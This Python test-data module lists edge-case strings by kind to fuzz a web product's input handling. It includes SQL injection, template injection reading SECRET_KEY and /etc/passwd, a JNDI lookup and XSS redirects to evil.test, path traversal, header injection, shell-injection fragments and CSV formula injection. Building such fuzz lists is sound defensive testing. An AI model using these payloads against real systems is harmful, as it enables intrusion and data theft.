"""Strings that software stumbles over, by kind. Written for this product: each kind has bitten somebody."""

from __future__ import annotations

import json

MARK = "qzq"  # in everything that could be markup: an answer that holds it raw has not escaped it

BLANK = [
    "", " ", "   ", "\t", "\n", "\r\n", "\r", "\v", "\f", "\u00a0", "\u1680", "\u2000", "\u2003", "\u2009", "\u200a",
    "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\ufeff", "\u180e", "\u2800", "\u3164", "\u115f", "  a  ",
    "\n\n\n\n", "a\u00a0b", "\u2060", "\u00ad",
]  # fmt: skip
CONTROL = [*(f"c{chr(n)}d" for n in range(1, 32) if n not in (9, 10, 13)), "c\x7fd", "c\x85d", "c\x80d", "c\x9fd"]
NUL = ["\x00", "nul\x00in it", "\x00first", "last\x00", "a.pdf\x00.html", "%00", "\\0", "\\x00", "\\u0000", "\u2400"]
BIDI = [
    "\u202eevil\u202c", "\u202dforced\u202c", "\u2066left\u2069", "\u2067right\u2069", "\u2068first\u2069",
    "\u200e", "\u200f", "\u061c", "report\u202efdp.exe", "a\u202e\u202e\u202eb", "\u2069\u2069\u2069",
    "אבג abc דהו", "مرحبا 123 world", "(א) [ב] {ג}", "שלום \u202d mixed \u202c עולם", "\u202aopen embed", "٣٫١٤ ≠ 3.14",
    "ﷺﷲ", "\u0600\u0601\u0602", "ދިވެހި", "ܫܠܡܐ",
]  # fmt: skip
INVISIBLE = [
    "ze\u200bro", "\u200b", "\u200c\u200d", "in\u2063vis\u2064ible", "\u034f", "a\ufe0fb", "\ufe0f", "\U000e0001tag",
    "\U000e0041\U000e0042", "\u206a\u206f", "\ufff9anno\ufffatation\ufffb", "soft\u00adhy\u00adphen", "\u17b4\u17b5",
]  # fmt: skip
COMBINING = [
    "e" + "\u0301" * 200, "Z\u0351\u036b\u0343\u036a\u0302\u036balgo", "\u0301", "\u0301" * 50, "a\u20dd", "क्षि",
    "ക്ഷ", "குறள்", "ก็็็็็็็็็็", "g\u0308\u0308\u0308", "\u1100\u1161\u11a8", "ཨོཾ་མ་ཎི", "o\u0338\u0338", "\u0488a", "Å\u0323",
]  # fmt: skip
EMOJI = [
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇩🇪🇫🇷", "🇩", "1️⃣", "☃", "🧑🏿‍🤝‍🧑🏻", "👨‍❤️‍💋‍👨", "🏴\U000e0067\U000e0062\U000e007f",
    "🙈🙉🙊" * 40, "❤", "❤️", "©®™", "\U0001f9ff", "\U0001fae8", "🤷🏽‍♀️ text 🤷", "\U0010ffff",
    "\U000f0000", "\U0001f3fb",
]  # fmt: skip
NOT_CHARACTERS = ["\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\ufffd", "\ufffc", "\ue000", "\uf8ff"]
LONG = [
    "a" * 255, "b" * 256, "c" * 1001, "d" * 4001, "e" * 65_537, "ä" * 5_000, "😀" * 3_000, "word " * 2_000,
    "line\n" * 3_000, "x" * 300_000, "-" * 41, "f" * 81, "g" * 121, "h" * 501, "k" * 2_001, "a@" + "b" * 300 + ".test",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "+0", "00", "1", "-1", "+1", "1.0", "1.5", "1,5", "1e3", "1e309", "-1e309", "NaN", "nan", "Infinity",
    "-inf", "0x10", "0b1", "0o7", "1_000", "1 000", "٣", "３", "Ⅷ", "½", "²", "①", "127", "128", "32767", "32768",
    "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993", "9223372036854775807",
    "9223372036854775808", "-9223372036854775809", "18446744073709551616", "9" * 40, "9" * 4_000, "9" * 5_000,
    "0.1" + "0" * 400, "1" + "0" * 309, "--1", "1-1", "1/0", "1;", "0.0000000001", "1e-400", "∞", "৩", "१२", "０",
]  # fmt: skip
DATES = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2023-02-29", "2024-02-30", "2024-13-01", "1970-01-01",
    "2038-01-19T03:14:08Z", "1900-02-29", "2016-12-31T23:59:60Z", "-4713-11-24", "24:00:00", "25:61", "2024-W53-7",
    "2024-366", "2024-06-01T00:00:00+99:99", "31/02/2024", "yesterday", "٢٠٢٤-٠١-٠١", "2024-01-01T00:00:00.1234567890Z",
]  # fmt: skip
WORDS = [
    "null", "NULL", "None", "nil", "undefined", "true", "True", "false", "on", "off", "yes", "no", "[]", "{}", "()",
    "''", '""', "self", "this", "__class__", "__proto__", "constructor", "prototype", "toString", "id", "pk", "COM1",
    "CON", "NUL", "admin", "root", "public", "0rphan", "_", "-", ".", "..", "...", "/", "\\", "//", "~", "#", "?", "&",
]  # fmt: skip
JSON = [
    "{", "[", '{"a":', '{"a":1}', "[1,2", '"', '{"__proto__":{"a":1}}', '{"a":NaN}', "[[[[[[[[[[", '{"a":"\\ud800"}',
    "[" * 5_000, '{"a":' * 2_000 + "1" + "}" * 2_000, '{"q":1,"q":2}', json.dumps({"kind": "x" * 500}), "\\u0022}",
]  # fmt: skip
SQL = [
    "' OR 'a'='a", "'; DROP TABLE research_inquiry; --", '" OR ""="',
    "1; SELECT pg_sleep(5)", "1 OR 1=1", "') OR ('1'='1",
    "%' OR name LIKE '%", "x' UNION SELECT email FROM public.accounts_user --", "$$;SELECT 1;$$", "\\'; SELECT 1 --",
    "1) OR (1=1", "/*! */ 1", "0; SET ROLE none; --", "E'\\x27'", "U&'\\0027'", "%s %s %s", "%(name)s", "%", "%%", "_%",
    "' || (SELECT current_user) || '", "1::int4range", "a'::regclass", "; RESET ROLE; SELECT 1", "?", "$1", ":name",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}qzq", "{% load static %}qzq", "{% include '/etc/passwd' %}", "{{ request.user.password }}qzq",
    "{% debug %}", "{{ settings.SECRET_KEY }}", "{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>qzq", "{{constructor}}",
    "{{=<% %>=}}", "{%", "%}", "{{", "}}", "{#", "${jndi:ldap://evil.test/a}", "@(7*7)", "*{7*7}", "~{a}", "[[7*7]]",
    "{{''.__class__.__mro__}}", "{% csrf_token %}", "{{ form.media }}", "{{qzq|safe}}",
]  # fmt: skip
MARKUP = [
    "<b>qzq</b>", "<script>qzq()</script>", "</textarea><script>qzq()</script>", "</title><b>qzq", '"><img src=qzq>',
    "'><svg onload=qzq()>", '" autofocus onfocus="qzq()', "' onmouseover='qzq()", "<img src=x onerror=qzq()>",
    "<!-- qzq -->", "--><b>qzq", "<![CDATA[<b>qzq]]>", "<?xml version='1.0'?><qzq/>", "<!DOCTYPE qzq>", "<qzq",
    "<svg><script>qzq()</script></svg>", "<math><mtext><qzq>", "<iframe srcdoc='<b>qzq'>",
    "<a href='javascript:qzq()'>x",
    "javascript:qzq()", "data:text/html,<b>qzq</b>", "vbscript:qzq", "&lt;b&gt;qzq", "&#60;b&#62;qzq", "&amp;qzq;",
    "<b\u2028onclick=qzq()>", "<b\x0bqzq>", "＜script＞qzq＜/script＞", "<noscript><p title='</noscript><b>qzq'>",
    "</style><b>qzq", "<style>*{x:qzq}</style>", "<form action=//evil.test><button>qzq", "<base href=//evil.test/qzq>",
    "<meta http-equiv=refresh content='0;qzq'>", "<div hx-get=/leave hx-trigger=load>qzq",
    "<hx-partial>qzq</hx-partial>",
    "<template><b>qzq</template>", "<object data=qzq>", "<b>qzq" * 200, "<<b>>qzq", "\"'<>&qzq", "<b/qzq=1>",
]  # fmt: skip
CSS = [
    "expression(qzq())", "url(//evil.test/qzq)", "};*{display:none}", "@import '//evil.test/qzq'", "\\3c b\\3e qzq",
    "color:red;background:url(x)", "/**/", "var(--qzq)",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2f", "..%2f..%2f",
    "%252e%252e%252f", "file:///etc/passwd", "C:\\con\\con", "\\\\evil.test\\share", "a/b/c",
    "./.", "~root", "/dev/zero",
    "/proc/self/environ", "a\\b", "..;/", "%c0%ae%c0%ae/", "name.pdf/../../x", "https://evil.test/", "//evil.test/a",
    "/\\evil.test", "https:evil.test", "/%09/evil.test", "/\t/evil.test", "\\/\\/evil.test", "///evil.test",
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: qzq=1", "a\nX-Qzq: 1", "a\r\n\r\n<b>qzq", "a%0d%0aSet-Cookie:%20qzq=1",
    "a\u560aSet-Cookie: qzq=1",
    "a\rb", "text/html; qzq", "x" * 8_000, ";;;;", "=?utf-8?B?cXpx?=",
    'a"; filename="qzq.exe', "to@a.test\nBcc: b@b.test",
    "a@b.test,c@d.test", "\"a b\"@c.test", "a@[127.0.0.1]", "a@xn--a.test", "ä@ö.test",
    "a@b..test", "@", "a@", "@b.test",
]  # fmt: skip
FORMATS = [
    "%d%n%n%n", "%s" * 30, "{0}", "{}", "{0.__class__}", "%(a)s", "{name!r:>{width}}",
    "%x" * 20, "$(id)", "`id`", "; ls",
    "| cat", "&& id", "$HOME", "${IFS}", "!!", "\\n", "\\", "\\\\", "%n", "a\\", "{:1000000000}", "%1000000000d",
]  # fmt: skip
UNICODE = [
    "ﬁﬂﬃ", "Ǆ", "ß", "ẞ", "İ", "ı", "ſ", "K", "Å", "é", "e\u0301", "Ω", "ΐ", "ΰ", "ﷺ" * 50, "가", "\u1112\u1161\u11ab",
    "ｆｕｌｌ", "𝕳𝖊𝖑𝖑𝖔", "Ⓐⓑ", "аdmin", "раура1", "ΑΒΕΖΗ", "ⅰⅱ", "龍龙竜", "丽", "㎏", "ʼn", "ǰ",
    "ΣΑΣ", "Straße", "ａ＠ｂ．ｔｅｓｔ",
    "\u212b", "\u2126", "ｱｲｳ", "か\u3099", "が", "…", "–—", "“”‘’", "ꙮ", "𒐫", "꧅", "﷽",
]  # fmt: skip
FILES = [
    "report.pdf", "report.pdf.exe", ".htaccess", ".", "..", "con.txt", "a" * 300 + ".pdf",
    "a/b.md", "a\\b.md", "-rf.md",
    "name with  spaces.md", "नाम.md", "a\u202efdp.md", "a\x00.md", "=cmd|' /C calc'!A0.csv", "@SUM(1+1).csv", "+1.csv",
    "a;b.md", "a'b\"c.md", "%2e%2e.md", "a.MD", "a.md.", "a.md ", "\ufeffa.md", "e\u0301.md",
    "é.md", "𝒂.md", ".md", "md",
]  # fmt: skip
# Half of a pair can't be sent as UTF-8: these bytes are what arrives where somebody tries, and other broken UTF-8.
BYTES = [
    b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80", b"\xff\xfe", b"\xfe\xff\x00a", b"\xc0\x80", b"\x80",
    b"\xc3", b"\xf5\x80\x80\x80", b"\xf8\x88\x80\x80\x80", b"a\xe2\x82", b"\xe0\x80\xaf", b"\xc1\x9c", b"\x81\x8d\x8f",
]  # fmt: skip

KINDS: dict[str, list[str]] = {
    "blank": BLANK, "control": CONTROL, "nul": NUL, "bidi": BIDI, "invisible": INVISIBLE, "combining": COMBINING,
    "emoji": EMOJI, "not characters": NOT_CHARACTERS, "long": LONG, "numbers": NUMBERS, "dates": DATES, "words": WORDS,
    "json": JSON, "sql": SQL, "templates": TEMPLATES, "markup": MARKUP, "css": CSS, "paths": PATHS, "headers": HEADERS,
    "formats": FORMATS, "unicode": UNICODE, "files": FILES,
}  # fmt: skip
NAUGHTY: tuple[str, ...] = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind))


def percent(text: str | bytes) -> str:
    """Return a string or bytes as they stand in an address.

    >>> percent("a b"), percent(b"\\xff")
    ('%61%20%62', '%FF')
    """
    raw = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return "".join(f"%{byte:02X}" for byte in raw)
